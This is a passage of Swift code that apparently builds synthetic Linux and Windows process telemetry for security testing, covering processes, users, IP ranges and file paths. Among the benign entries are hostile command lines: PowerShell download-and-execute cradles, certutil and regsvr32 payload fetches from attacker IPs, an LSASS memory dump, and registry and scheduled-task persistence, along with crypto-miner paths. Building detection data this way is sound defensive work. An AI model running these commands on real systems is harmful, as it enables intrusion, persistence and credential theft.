                P("gzip", "/usr/bin/gzip", ["-9 /var/log/nginx/access.log.1", "/var/log/syslog.1"], files: ["varlog"]),
                P("systemd-tmpfiles", "/usr/bin/systemd-tmpfiles", ["--clean"], files: ["tmp"]),
                P("fwupdmgr", "/usr/bin/fwupdmgr", ["refresh"], net: .web),
                P("run-parts", "/usr/bin/run-parts", ["--report /etc/cron.hourly", "--report /etc/cron.daily"],
                  kids: ["logrotate": 1, "mandb": 1, "dpkg": 1]),
                P("mandb", "/usr/bin/mandb", ["--quiet"]),
                P("certbot", "/usr/bin/certbot", ["-q renew"], net: .web, files: ["letsencrypt"], libs: ["libpython3.10.so.1.0"]),
                P("python3", "/usr/bin/python3.10",
                  ["manage.py migrate", "-m pip install -r requirements.txt", "scripts/report.py --since 24h",
                   "-c 'import sys; print(sys.version)'"],
                  net: .web, files: ["home", "tmp"], libs: ["libpython3.10.so.1.0", "_ssl.cpython-310-x86_64-linux-gnu.so", "libffi.so.8"]),
                P("make", "/usr/bin/make", ["build", "-j4", "test"], kids: ["cc1": 3], files: ["build"]),
                P("cc1", "/usr/lib/gcc/x86_64-linux-gnu/11/cc1", ["-quiet -Iinclude src/main.c -o /tmp/ccA1b2C3.s"], files: ["build", "tmp"]),
                P("go", "/usr/local/go/bin/go", ["build ./...", "test ./...", "mod download"], kids: ["compile": 1], net: .web,
                  files: ["build"]),
                P("compile", "/usr/local/go/pkg/tool/linux_amd64/compile", ["-o /tmp/go-build1042/b001/_pkg_.a -p main -complete ./main.go"],
                  files: ["build", "tmp"]),
                P("npm", "/usr/bin/node", ["@npm ci", "@npm run build", "@npm install"], net: .web, files: ["build"],
                  libs: ["libnode.so.109"]),
                P("docker", "/usr/bin/docker", ["ps", "build -t registry.acme.io/api:latest .", "logs -f api", "exec -it api sh"]),
                P("kubectl", "/usr/local/bin/kubectl", ["get pods -A", "logs -f deploy/orders -n prod", "describe node k8s-node-03",
                                                        "apply -f deploy.yaml"], net: .k8s, files: ["home"]),
                P("ping", "/usr/bin/ping", ["-c 4 10.20.0.2", "-c 3 8.8.8.8"]),
                P("dig", "/usr/bin/dig", ["acme.io", "+short github.com"], net: .dns),
                P("crontab", "/usr/bin/crontab", ["-l", "-e"], files: ["tmp"]),
            ]
            return L
        }

        static func windowsPrograms() -> [PS] {
            let chromeExe = #"C:\Program Files\Google\Chrome\Application\chrome.exe"#
            let edgeExe = #"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"#
            let office = #"C:\Program Files\Microsoft Office\root\Office16\"#
            let ps = #"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"#
            let defender = #"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\"#
            let sys = #"C:\Windows\System32\"#
            var L: [PS] = []
            // boot / services
            L += [
                W("smss", sys + "smss.exe", [#"@\SystemRoot\System32\smss.exe"#], life: .persistent, user: .fixed("SYSTEM"), rate: 0, files: ["sysroot"]),
                W("wininit", sys + "wininit.exe", ["@wininit.exe"], life: .persistent, user: .fixed("SYSTEM"), rate: 0),
                W("services", sys + "services.exe", [#"@C:\Windows\system32\services.exe"#], life: .persistent, user: .fixed("SYSTEM"),
                  kids: ["svchost-svc": 4, "msiexec-svc": 1, "TrustedInstaller": 1, "sppsvc": 2], rate: 15, files: ["sysroot"]),
                W("lsass-ws", sys + "lsass.exe", [#"@C:\Windows\system32\lsass.exe"#], life: .persistent, user: .fixed("SYSTEM"),
                  net: .dcc, libs: ["lsasrv.dll", "kerberos.dll", "msv1_0.dll", "samsrv.dll"]),
                W("lsass-dc", sys + "lsass.exe", [#"@C:\Windows\system32\lsass.exe"#], life: .persistent, user: .fixed("SYSTEM"),
                  net: .dcs, files: ["ntds"], libs: ["lsasrv.dll", "kerberos.dll", "msv1_0.dll", "samsrv.dll", "ntdsa.dll"]),
                W("winlogon", sys + "winlogon.exe", ["@winlogon.exe"], life: .persistent, user: .fixed("SYSTEM"), rate: 0),
                W("svchost-dcom", sys + "svchost.exe", [#"@C:\Windows\system32\svchost.exe -k DcomLaunch -p"#], life: .persistent,
                  user: .fixed("SYSTEM"), kids: ["WmiPrvSE": 4, "RuntimeBroker": 4, "dllhost": 6, "backgroundTaskHost": 3, "smartscreen": 3],
                  rate: 40, files: ["sysroot"]),
                W("svchost-rpcss", sys + "svchost.exe", [#"@C:\Windows\system32\svchost.exe -k RPCSS -p"#], life: .persistent,
                  user: .fixed("NETWORK SERVICE")),
                W("svchost-netsvcs", sys + "svchost.exe", [#"@C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"#], life: .persistent,
                  user: .fixed("SYSTEM"),
                  kids: ["taskhostw": 6, "MoUsoCoreWorker": 2, "GoogleUpdate": 3, "MicrosoftEdgeUpdate": 3, "MpCmdRun": 2, "consent": 1,
                         "powershell-task": 2],
                  rate: 35, files: ["sysroot", "wintemp"]),
                W("svchost-local", sys + "svchost.exe", [#"@C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p"#],
                  life: .persistent, user: .fixed("LOCAL SERVICE"), files: ["evtx"]),
                W("svchost-dns", sys + "svchost.exe", [#"@C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache"#],
                  life: .persistent, user: .fixed("NETWORK SERVICE"), net: .dns, libs: ["dnsapi.dll"]),
                W("svchost-wu", sys + "svchost.exe", [#"@C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv"#], life: .persistent,
                  user: .fixed("SYSTEM"), net: .ms, files: ["winupdate"]),
                W("svchost-svc", sys + "svchost.exe",
                  [#"@C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain"#,
                   #"@C:\Windows\system32\svchost.exe -k LocalService -p -s BthAvctpSvc"#,
                   #"@C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_4f1b2"#],
                  life: .long, user: .fixed("SYSTEM"), files: ["sysroot"]),
                W("svchost-iis", sys + "svchost.exe", [#"@C:\Windows\system32\svchost.exe -k iissvcs"#], life: .persistent,
                  user: .fixed("SYSTEM"), kids: ["w3wp": 1], rate: 3),
                W("spoolsv", sys + "spoolsv.exe", [#"@C:\Windows\System32\spoolsv.exe"#], life: .persistent, user: .fixed("SYSTEM"),
                  files: ["spool"]),
                W("MsMpEng", defender + "MsMpEng.exe", [""], life: .persistent, user: .fixed("SYSTEM"), net: .ms, files: ["defender"],
                  libs: ["MpOav.dll"]),
                W("elastic-endpoint-win", #"C:\Program Files\Elastic\Endpoint\elastic-endpoint.exe"#, ["run"], life: .persistent,
                  user: .fixed("SYSTEM"), net: .agent, files: ["elasticw"]),
                W("dns-exe", sys + "dns.exe", [""], life: .persistent, user: .fixed("SYSTEM"), net: .dnsServer, files: ["dns"]),
                W("dfsrs", sys + "dfsrs.exe", [""], life: .persistent, user: .fixed("SYSTEM"), net: .dcs, files: ["ntds"]),
                W("w3wp", sys + #"inetsrv\w3wp.exe"#,
                  [#"-ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm4b1e2f7c -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0"#],
                  life: .persistent, user: .fixed("DefaultAppPool"), kids: ["csc": 40, "cmd-webshell": 1], rate: 4, net: .https,
                  files: ["iis"], libs: ["iiscore.dll", "webengine4.dll", "clr.dll"]),
                W("sqlservr", #"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"#, ["-sMSSQLSERVER"],
                  life: .persistent, user: .fixed("MSSQLSERVER"), net: .mssql, files: ["mssql"]),
            ]
            // session
            L += [
                W("explorer", #"C:\Windows\explorer.exe"#, [#"@C:\Windows\Explorer.EXE"#], life: .persistent, user: .session,
                  kids: ["chrome": 30, "msedge": 15, "OUTLOOK": 8, "WINWORD": 10, "EXCEL": 8, "POWERPNT": 3, "Acrobat": 6, "ms-teams": 3,
                         "notepad": 8, "cmd": 8, "powershell": 5, "Code": 4, "mstsc": 2, "7zFM": 2, "rundll32": 2],
                  rate: 50, net: .smbc, files: ["userdocs", "onedrive", "wintemp"], libs: ["windows.storage.dll", "explorerframe.dll"]),
                W("OneDrive", #"C:\Program Files\Microsoft OneDrive\OneDrive.exe"#, ["/background"], life: .long, user: .session,
                  net: .ms, files: ["onedrive"]),
                W("ms-teams", #"C:\Program Files\WindowsApps\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe\ms-teams.exe"#, ["", "msteams:system-initiated"],
                  life: .long, user: .session, net: .ms, files: ["wintemp"]),
                W("chrome", chromeExe, ["", "--profile-directory=Default", #""https://mail.google.com/mail/u/0/""#], life: .long,
                  kids: ["chrome-renderer": 12, "chrome-utility": 3, "chrome-gpu": 1], rate: 60, net: .web,
                  files: ["chromecache", "userdocs"], libs: ["chrome.dll", "chrome_elf.dll"]),
                W("chrome-renderer", chromeExe,
                  ["--type=renderer --lang=en-US --renderer-client-id=7 --launch-time-ticks=3421937291 --mojo-platform-channel-handle=3712 /prefetch:1"],
                  files: ["chromecache"], libs: ["chrome.dll", "chrome_elf.dll"]),
                W("chrome-utility", chromeExe,
                  ["--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2120 /prefetch:3"],
                  life: .long, net: .web, files: ["chromecache"], libs: ["chrome.dll"]),
                W("chrome-gpu", chromeExe, ["--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAA --mojo-platform-channel-handle=1788 /prefetch:2"],
                  life: .long, files: ["chromecache"], libs: ["chrome.dll"]),
                W("msedge", edgeExe, ["", "--single-argument https://acme.sharepoint.com/sites/finance"], life: .long,
                  kids: ["msedge-renderer": 10], rate: 50, net: .web, files: ["edgecache", "userdocs"], libs: ["msedge.dll"]),
                W("msedge-renderer", edgeExe,
                  ["--type=renderer --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id=12 --mojo-platform-channel-handle=4420 /prefetch:1"],
                  net: .ms, files: ["edgecache"], libs: ["msedge.dll"]),
                W("OUTLOOK", office + "OUTLOOK.EXE", ["", "/recycle"], life: .long, kids: ["WINWORD": 2, "EXCEL": 2, "Acrobat": 2, "msedge": 1],
                  rate: 6, net: .ms, files: ["office", "userdocs"], libs: ["mso20win32client.dll", "mso.dll"]),
                W("WINWORD", office + "WINWORD.EXE", ["/n", #"/n "\\fs01\finance\Q3 Report.docx""#, #"/n "C:\Users\Public\Documents\Offer Letter.docx" /o """#],
                  life: .long, kids: ["splwow64": 60, "cmd-macro": 1], rate: 8, files: ["office", "userdocs", "onedrive"],
                  libs: ["wwlib.dll", "mso20win32client.dll", "VBE7.DLL"]),
                W("EXCEL", office + "EXCEL.EXE", ["", #""\\fs01\finance\budget_2026.xlsx""#], life: .long,
                  kids: ["splwow64": 60, "cmd-macro": 1], rate: 6, files: ["office", "userdocs"], libs: ["mso20win32client.dll", "VBE7.DLL"]),
                W("POWERPNT", office + "POWERPNT.EXE", [""], life: .long, kids: ["splwow64": 1], rate: 5, files: ["office", "userdocs"],
                  libs: ["mso20win32client.dll"]),
                W("Acrobat", #"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe"#, ["", #""C:\Users\Public\Downloads\invoice_88213.pdf""#],
                  life: .long, net: .web, files: ["userdocs", "wintemp"]),
                W("notepad", sys + "notepad.exe", ["", #"C:\Windows\System32\drivers\etc\hosts"#, #"\\fs01\it\readme.txt"#], life: .long,
                  files: ["userdocs"]),
                W("Code", #"C:\Program Files\Microsoft VS Code\Code.exe"#, ["", "."], life: .long,
                  kids: ["git-win": 6, "powershell": 2, "cmd": 1, "conhost": 2], rate: 30, net: .web, files: ["code"]),
                W("git-win", #"C:\Program Files\Git\cmd\git.exe"#, ["fetch origin", "status", "pull --rebase", "push origin main"],
                  net: .github, files: ["code"]),
                W("mstsc", sys + "mstsc.exe", ["/v:SRV-APP01", #""C:\Users\Public\Documents\jump.rdp""#], life: .long, net: .rdp),
                W("7zFM", #"C:\Program Files\7-Zip\7zFM.exe"#, [""], life: .long, files: ["userdocs", "wintemp"]),
            ]
            // shells and tools
            L += [
                W("cmd", sys + "cmd.exe", ["", "/k", #"/c "C:\Scripts\map-drives.bat""#], life: .long,
                  kids: ["conhost": 60, "ipconfig": 24, "ping-win": 24, "whoami-win": 6, "tasklist": 15, "findstr": 15, "systeminfo": 6,
                         "nslookup": 15, "netstat": 9, "net-use": 12, "powershell": 12, "git-win": 12, "robocopy": 6, "sc": 9, "gpupdate": 6,
                         "certutil": 3, "reg-query": 6, "net-recon": 1, "certutil-evil": 1, "reg-add-evil": 1, "nltest": 1],
                  files: ["wintemp"]),
                W("conhost", sys + "conhost.exe", [#"@\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"#]),
                W("powershell", ps, ["", "-NoLogo", #"-NoProfile -ExecutionPolicy Bypass -File C:\Scripts\Get-Inventory.ps1"#,
                                     #"-Command "Get-Service | Where-Object Status -eq 'Running'""#],
                  life: .long,
                  kids: ["conhost": 120, "whoami-win": 6, "ipconfig": 15, "git-win": 15, "cmd": 15, "net-use": 10, "net-recon": 1,
                         "regsvr32-evil": 1, "rundll32-comsvcs": 1, "certutil-evil": 1, "schtasks-evil": 1],
                  rate: 50, net: .web, files: ["wintemp", "userdocs"],
                  libs: ["clr.dll", "mscoreei.dll", "clrjit.dll", "amsi.dll", "System.Management.Automation.ni.dll", "mscoree.dll"]),
                W("powershell-task", ps, [#"-NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\ProgramData\Acme\Scripts\Send-Inventory.ps1""#],
                  user: .fixed("SYSTEM"), kids: ["conhost": 1], rate: 50, net: .web, files: ["wintemp"],
                  libs: ["clr.dll", "amsi.dll", "System.Management.Automation.ni.dll"]),
                W("powershell-evil", ps,
                  ["-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIAMAAuADEAMAAxAC4ANAA3AC8AYQAnACkA",
                   #"-ExecutionPolicy Bypass -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')""#],
                  kids: ["conhost": 3, "whoami-win": 3, "net-recon": 2, "rundll32-comsvcs": 1, "schtasks-evil": 1, "nltest": 1], rate: 80,
                  net: .evilweb, files: ["evilwin"], libs: ["clr.dll", "amsi.dll", "System.Management.Automation.ni.dll", "vaultcli.dll", "samlib.dll"],
                  sus: true),
                W("cmd-macro", sys + "cmd.exe",
                  [#"/c powershell -nop -w hidden -c "iwr http://91.92.240.13/inv.exe -OutFile $env:TEMP\inv.exe; & $env:TEMP\inv.exe""#],
                  kids: ["powershell-evil": 1], files: ["evilwin"], sus: true),
                W("cmd-webshell", sys + "cmd.exe", ["/c whoami", #"/c "cd /d C:\inetpub\wwwroot & dir""#, "/c net user /domain"],
                  kids: ["whoami-win": 3, "net-recon": 2, "powershell-evil": 1], files: ["evilwin"], sus: true),
                W("whoami-win", sys + "whoami.exe", ["", "/all", "/priv", "/groups"]),
                W("ipconfig", sys + "ipconfig.exe", ["/all", "/flushdns", ""]),
                W("ping-win", sys + "PING.EXE", ["-n 4 10.20.0.10", "8.8.8.8", "fs01"]),
                W("net-use", sys + "net.exe", ["use", #"use Z: \\fs01\share /persistent:yes"#, #"view \\fs01"#], net: .smbc),
                W("net-recon", sys + "net.exe", ["user /domain", #"group "Domain Admins" /domain"#, "localgroup administrators"], net: .dcc, sus: true),
                W("tasklist", sys + "tasklist.exe", ["", "/v", "/svc"]),
                W("findstr", sys + "findstr.exe", [#"/i "error" C:\Windows\Temp\setup.log"#, "/s /i password *.config"]),
                W("systeminfo", sys + "systeminfo.exe"),
                W("nslookup", sys + "nslookup.exe", ["fs01.corp.acme.local", "google.com"], net: .dns),
                W("netstat", sys + "NETSTAT.EXE", ["-ano", "-an"]),
                W("robocopy", sys + "Robocopy.exe", [#"C:\Users\Public\Documents \\fs01\backup /MIR /R:1 /W:1"#], net: .smbc),
                W("sc", sys + "sc.exe", ["query", "query WinDefend", "qc wuauserv"]),
                W("gpupdate", sys + "gpupdate.exe", ["/force", "/target:computer"], net: .dcc),
                W("certutil", sys + "certutil.exe", ["-store my", #"-hashfile C:\Windows\Temp\setup.msi SHA256"#]),
                W("certutil-evil", sys + "certutil.exe",
                  [#"-urlcache -split -f http://185.220.101.47/a.exe C:\Users\Public\a.exe"#, #"-decode C:\Users\Public\enc.txt C:\Users\Public\update.exe"#],
                  net: .evilweb, files: ["evilwin"], sus: true),
                W("reg-query", sys + "reg.exe", [#"query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s"#,
                                                 #"query "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings""#]),
                W("reg-add-evil", sys + "reg.exe",
                  [#"add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\update.exe /f"#,
                   #"add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d C:\Windows\System32\cmd.exe /f"#],
                  sus: true),
                W("regsvr32-evil", sys + "regsvr32.exe", ["/s /n /u /i:http://185.220.101.47/file.sct scrobj.dll"], net: .evilweb,
                  files: ["evilwin"], libs: ["scrobj.dll", "wininet.dll"], sus: true),
                W("rundll32", sys + "rundll32.exe", [#"C:\Windows\System32\shell32.dll,Control_RunDLL"#, "printui.dll,PrintUIEntryDPIAware"]),
                W("rundll32-comsvcs", sys + "rundll32.exe", [#"C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\Windows\Temp\lsass.dmp full"#],
                  files: ["evilwin"], libs: ["comsvcs.dll", "dbghelp.dll", "dbgcore.dll"], sus: true),
                W("schtasks-evil", sys + "schtasks.exe",
                  [#"/create /tn "MicrosoftEdgeUpdateTaskCore" /tr "C:\Users\Public\update.exe" /sc onlogon /rl highest /f"#], sus: true),
                W("nltest", sys + "nltest.exe", ["/dclist:corp.acme.local", "/domain_trusts"], net: .dcc, sus: true),
            ]
            // background
            L += [
                W("WmiPrvSE", sys + #"wbem\WmiPrvSE.exe"#, ["-Embedding", "-secured -Embedding"], life: .long, user: .fixed("NETWORK SERVICE"),
                  kids: ["powershell-evil": 1], rate: 1),
                W("RuntimeBroker", sys + "RuntimeBroker.exe", ["-Embedding"], life: .long, user: .session),
                W("dllhost", sys + "dllhost.exe", ["/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "/Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}"],
                  user: .session),
                W("backgroundTaskHost", sys + "backgroundTaskHost.exe", ["-ServerName:BackgroundTaskHost.WebAccountProvider"], user: .session, net: .ms),
                W("smartscreen", sys + "smartscreen.exe", ["-Embedding"], user: .session, net: .ms),
                W("taskhostw", sys + "taskhostw.exe", ["", "{222A245B-E637-4AE9-A93F-A59CA119A75E}"], user: .session),
                W("MoUsoCoreWorker", sys + "MoUsoCoreWorker.exe", ["-Embedding"], net: .ms, files: ["winupdate"]),
                W("GoogleUpdate", #"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"#, ["/ua /installsource scheduler", "/c"], net: .web),
                W("MicrosoftEdgeUpdate", #"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe"#, ["/ua /installsource scheduler"], net: .ms),
                W("MpCmdRun", defender + "MpCmdRun.exe", ["-SignatureUpdate -ScheduleJob -RestrictPrivileges", "-IdleTask -TaskName WdCacheMaintenance"],
                  net: .ms, files: ["defender"]),
                W("consent", sys + "consent.exe", ["1028 400 000001E2A6B0C8F0"]),
                W("TrustedInstaller", #"C:\Windows\servicing\TrustedInstaller.exe"#, [""], life: .long, kids: ["TiWorker": 1], rate: 30,
                  files: ["winupdate"]),
                W("TiWorker", #"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.22621.4240_none_7f8cc9d24a5f6c1a\TiWorker.exe"#,
                  ["-Embedding"], files: ["winupdate"]),
                W("sppsvc", sys + "sppsvc.exe", [""], user: .fixed("NETWORK SERVICE"), net: .ms),
                W("msiexec-svc", sys + "msiexec.exe", ["/V"], life: .long, kids: ["msiexec-child": 1], rate: 30, files: ["wintemp"]),
                W("msiexec-child", sys + "msiexec.exe", [#"-Embedding 4F2A3B1C8D9E0F11A2B3C4D5E6F70812 E Global\MSI0000"#], files: ["wintemp"]),
                W("splwow64", #"C:\Windows\splwow64.exe"#, ["12288"], files: ["spool"]),
                W("csc", #"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe"#,
                  [#"/noconfig /fullpaths @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\1f2e3d4c\5b6a7980\ab12cd34.cmdline""#],
                  files: ["iis"]),
            ]
            return L
        }

        struct Role {
            var name: String
            var boot: [(String, Int)]
        }

        static func roles() -> [Role] {
            let linux: [(String, Int)] = [
                ("systemd", -1), ("systemd-journald", 0), ("systemd-udevd", 0), ("systemd-resolved", 0), ("systemd-timesyncd", 0),
                ("systemd-logind", 0), ("rsyslogd", 0), ("cron", 0), ("sshd", 0), ("node_exporter", 0), ("elastic-agent", 0),
                ("elastic-endpoint", 10),
            ]
            let win: [(String, Int)] = [
                ("smss", -1), ("wininit", 0), ("services", 1), ("lsass-ws", 1), ("winlogon", 0), ("svchost-dcom", 2),
                ("svchost-rpcss", 2), ("svchost-netsvcs", 2), ("svchost-local", 2), ("svchost-dns", 2), ("MsMpEng", 2),
                ("elastic-endpoint-win", 2),
            ]
            var dc = win
            dc[3] = ("lsass-dc", 1)
            return [
                Role(name: "web", boot: linux + [("nginx", 0), ("nginx-worker", 12), ("nginx-worker", 12), ("gunicorn", 0)]),
                Role(name: "db", boot: linux + [("postgres", 0), ("postgres-ckpt", 12), ("postgres-wal", 12), ("postgres-autovac", 12)]),
                Role(name: "k8s", boot: linux + [("containerd", 0), ("kubelet", 0), ("containerd-shim", 12), ("java-app", 14),
                                                 ("containerd-shim", 12), ("node-app", 16)]),
                Role(name: "ci", boot: linux + [("containerd", 0), ("dockerd", 0), ("gitlab-runner", 0)]),
                Role(name: "bastion", boot: linux),
                Role(name: "ws", boot: win + [("svchost-wu", 2), ("spoolsv", 2), ("explorer", 4), ("OneDrive", 14), ("ms-teams", 14)]),
                Role(name: "dc", boot: dc + [("dns-exe", 2), ("dfsrs", 2), ("explorer", 4)]),
                Role(name: "app", boot: win + [("svchost-iis", 2), ("w3wp", 12), ("sqlservr", 2), ("explorer", 4)]),
            ]
        }

        static func users() -> [(String, String?, String)] {
            var u: [(String, String?, String)] = [
                ("root", nil, "/root"), ("systemd-resolve", nil, "/run/systemd"), ("systemd-timesync", nil, "/run/systemd"),
                ("syslog", nil, "/home/syslog"), ("www-data", nil, "/var/www"), ("postgres", nil, "/var/lib/postgresql"),
                ("prometheus", nil, "/home/prometheus"), ("deploy", nil, "/home/deploy"), ("app", nil, "/home/app"),
                ("node", nil, "/home/node"), ("gitlab-runner", nil, "/home/gitlab-runner"), ("_apt", nil, "/nonexistent"),
                ("ubuntu", nil, "/home/ubuntu"),
            ]
            for n in ["alice", "bob", "carol", "dmitri", "priya", "wei"] { u.append((n, nil, "/home/" + n)) }
            u += [
                ("SYSTEM", "NT AUTHORITY", #"C:\Windows\system32\config\systemprofile"#),
                ("LOCAL SERVICE", "NT AUTHORITY", #"C:\Windows\ServiceProfiles\LocalService"#),
                ("NETWORK SERVICE", "NT AUTHORITY", #"C:\Windows\ServiceProfiles\NetworkService"#),
                ("DefaultAppPool", "IIS APPPOOL", #"C:\Users\DefaultAppPool"#),
                ("MSSQLSERVER", "NT Service", #"C:\Users\MSSQLSERVER"#),
                ("Administrator", "CORP", #"C:\Users\Administrator"#),
            ]
            for n in ["j.smith", "a.garcia", "m.chen", "s.patel", "k.oconnor", "l.nguyen", "r.kowalski", "t.williams",
                      "e.mueller", "f.rossi", "n.tanaka", "o.adeyemi"]
            {
                u.append((n, "CORP", #"C:\Users\"# + n))
            }
            for n in ["j.smith", "a.garcia", "m.chen"] { u.append(("adm." + n, "CORP", #"C:\Users\adm."# + n)) }
            return u
        }

        static func ipPools() -> [Pool: [(String, Int)]] {
            [
                .publicWeb: [("142.250.", 2), ("151.101.", 2), ("104.16.", 2), ("172.217.", 2), ("52.84.", 2), ("13.32.", 2),
                             ("185.199.108.", 1), ("34.120.", 2), ("93.184.215.14", 0), ("23.215.0.", 1), ("18.160.", 2)],
                .publicV6: [("2606:4700::6810:", 6), ("2a00:1450:4001:82a::", 6), ("2620:1ec:bdf::", 6),
                            ("2a03:2880:f12f:83:face:b00c:0:", 6), ("2600:9000:2156:a400:1f:8a7e:3c40:", 6)],
                .github: [("140.82.112.", 1), ("140.82.113.", 1), ("140.82.114.", 1)],
                .microsoft: [("13.107.", 2), ("20.190.", 2), ("52.96.", 2), ("40.126.", 2), ("52.113.", 2)],
                .elastic: [("35.235.", 2), ("34.120.127.130", 0)],
                .evil: [("185.220.101.47", 0), ("91.92.240.13", 0), ("45.133.1.20", 0), ("194.26.29.", 1)],
                .internalSrv: [("10.20.1.", 1), ("10.20.2.", 1), ("10.20.3.", 1)],
                .internalWs: [("10.30.", 2)],
                .dcs: [("10.20.0.10", 0), ("10.20.0.11", 0)],
                .resolvers: [("10.20.0.2", 0), ("10.20.0.3", 0), ("1.1.1.1", 0), ("8.8.8.8", 0)],
                .ntp: [("185.125.190.56", 0), ("91.189.91.157", 0), ("162.159.200.1", 0)],
                .k8sApi: [("10.20.5.10", 0), ("10.20.5.11", 0), ("10.20.5.12", 0)],
                .dbServers: [("10.20.2.15", 0), ("10.20.2.16", 0)],
                .fileServers: [("10.20.0.20", 0), ("10.20.0.21", 0)],
                .miningPool: [("141.94.96.144", 0), ("51.255.34.118", 0)],
                .scanners: [("45.155.205.", 1), ("193.32.162.", 1), ("218.92.0.", 1), ("2001:470:1::", 6)],
            ]
        }

        static func linuxFiles() -> [String: [(String, [String])]] {
            [
                "tmp": [("/tmp", ["tmp{n}", "tmp.{h}", "sess_{h}", "pip-build-{n}.log"]), ("/var/tmp", ["systemd-private-{h}.tmp"])],
                "home": [("{home}", [".bash_history", ".viminfo", ".lesshst", "notes.txt", ".bashrc", ".profile", "bob's notes.txt"]),
                         ("{home}/.ssh", ["known_hosts", "authorized_keys", "id_ed25519"]), ("{home}/.cache/pip/http/a/b", ["{h}"])],
                "repo": [("{home}/src/platform", ["main.go", "go.sum", "README.md", "Makefile", "config.yaml"]),
                         ("{home}/src/platform/.git", ["index", "FETCH_HEAD", "ORIG_HEAD", "index.lock"]),
                         ("{home}/src/platform/internal/api", ["handler.go", "handler_test.go"])],
                "varlog": [("/var/log", ["syslog", "auth.log", "kern.log", "syslog.1", "syslog.2.gz", "dpkg.log", "backup.log"])],
                "journal": [("/var/log/journal/9f3c2b1a7e6d4c5b8a9f0e1d2c3b4a59", ["system.journal", "user-1000.journal", "system@{h}.journal~"])],
                "etc": [("/etc", ["hosts", "resolv.conf", "passwd", "group", "ld.so.cache", "os-release"]),
                        ("/etc/nginx/sites-available", ["default"])],
                "etcsens": [("/etc", ["shadow", "sudoers", "gshadow"]), ("/root/.ssh", ["authorized_keys"])],
                "nginx": [("/var/log/nginx", ["access.log", "error.log"]), ("/var/lib/nginx/body", ["00000{n}"])],
                "pg": [("/var/lib/postgresql/14/main/base/16384", ["{n}", "{n}_fsm", "{n}_vm"]),
                       ("/var/lib/postgresql/14/main/pg_wal", ["000000010000002A{H}"])],
                "apt": [("/var/lib/apt/lists", ["archive.ubuntu.com_ubuntu_dists_jammy-updates_InRelease",
                                                "security.ubuntu.com_ubuntu_dists_jammy-security_main_binary-amd64_Packages.lz4"]),
                        ("/var/cache/apt/archives", ["libssl3_3.0.2-0ubuntu1.18_amd64.deb", "jq_1.6-2.1ubuntu3_amd64.deb"]),
                        ("/usr/lib/x86_64-linux-gnu", ["libssl.so.3", "libcrypto.so.3"])],
                "download": [("{home}", ["get-docker.sh", "helm.tar.gz", "node_exporter-1.8.0.linux-amd64.tar.gz", "release.json",
                                         "backup-2026.tar.gz"]), ("/tmp", ["helm.tar.gz"])],
                "build": [("/home/gitlab-runner/builds/acme/platform", ["go.sum", "app", "coverage.out", "package-lock.json"]),
                          ("/home/gitlab-runner/builds/acme/platform/dist", ["main.js", "main.js.map", "index.html"]),
                          ("/home/gitlab-runner/.cache/go-build/3f", ["{h}-d"])],
                "containerd": [("/var/lib/containerd/io.containerd.content.v1.content/ingest", ["{h}"]),
                               ("/run/containerd/io.containerd.runtime.v2.task/k8s.io/4f2a9c1e7b3d", ["config.json", "rootfs", "log.json"])],
                "kubelet": [("/var/log/pods/prod_orders-7d9f8b6c5-x2k4p_5c1e0b7a/orders", ["0.log"]),
                            ("/var/lib/kubelet", ["cpu_manager_state", "memory_manager_state"])],
                "app": [("/opt/app/logs", ["app.log", "access.log", "gunicorn.log"]), ("/opt/app/media/uploads", ["{h}.jpg", "{h}.pdf"])],
                "elastic": [("/opt/Elastic/Endpoint/state/log", ["endpoint-000001.log"]), ("/opt/Elastic/Endpoint/state", ["cache.db", "cache.db-wal"])],
                "evil-linux": [("/tmp/.x", ["xmrig", "config.json", "p.b64", "x.sh"]), ("/dev/shm", [".x", ".ICE-unix-{n}"]),
                               ("/var/tmp", [".sshd"]), ("/etc/cron.d", ["0hourly-update"]), ("/root/.ssh", ["authorized_keys"])],
